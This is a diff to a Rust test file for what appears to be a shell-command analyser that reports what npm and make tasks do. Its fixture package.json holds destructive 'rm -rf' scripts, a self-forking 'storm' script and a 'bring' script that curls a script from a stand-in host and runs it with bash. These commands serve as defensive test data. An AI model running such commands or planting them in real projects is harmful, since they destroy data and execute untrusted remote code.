@@ -63,7 +63,7 @@ const THERE: &[(&str, There)] = &[
     (
         "/w/package.json",
         Text(
-            r#"{"scripts":{"preclean":"rm -rf a","clean":"rm -rf b","test":"rm -rf c","loop":"npm run loop","postinstall":"rm -rf i","prepare":"rm -rf p","prepublishOnly":"rm -rf o"}}"#,
+            r#"{"scripts":{"preclean":"rm -rf a","clean":"rm -rf b","test":"rm -rf c","loop":"npm run loop","storm":"npm run storm & npm run storm","half":"bash none.sh; node lib/app","bring":"curl -so none.sh https://x.example; bash none.sh","postinstall":"rm -rf i","prepare":"rm -rf p","prepublishOnly":"rm -rf o"}}"#,
         ),
     ),
     (
@@ -390,8 +390,35 @@ fn a_task_does_what_its_file_says() {
     check("npm test", "delete /w/c in /w/package.json");
     check("cd sub && yarn test", "delete /w/c in /w/package.json");
     check("pnpm run test /etc", "delete /etc in /w/package.json; delete /w/c in /w/package.json");
-    assert!(shown("npm run loop", &Setting::default()).contains("opaque code nesting"));
-    assert!(shown("make loop", &Setting::default()).contains("opaque code nesting"));
+    // A task that runs itself does what it does again.
+    check("npm run loop", "");
+    check("make loop", "");
+    assert!(shown("npm run storm", &Setting::default()).contains("opaque code nesting"));
+}
+
+#[test]
+fn nothing_runs_of_a_file_that_is_not_there() {
+    let project = Setting { workspace: "/w".to_owned(), ..Setting::default() };
+    let full = Setting { written_is_full: true, ..project.clone() };
+    for (text, setting, is_missing) in [
+        ("npm run half", &project, true),
+        // Where the project lies is not known, nor what the session wrote.
+        ("npm run half", &Setting::default(), false),
+        ("npm run half", &full, false),
+        // Who types a name knows a file of that name, or comes to make it.
+        ("bash none.sh", &project, false),
+        ("node -e 'require(\"./none\")'", &project, false),
+        // Something may make it.
+        ("npm run bring", &project, false),
+        ("sleep 9; npm run half", &project, false),
+        ("npm run half & ls", &project, false),
+        ("npm run half; unheard-of --into none.sh", &project, false),
+        ("git pull; npm run half", &project, false),
+    ] {
+        let found = shown(text, setting);
+        assert_eq!(found.contains("code missing"), is_missing, "{text}: {found}");
+        assert!(found.contains("opaque code"), "{text}: {found}");
+    }
 }
 
 #[test]
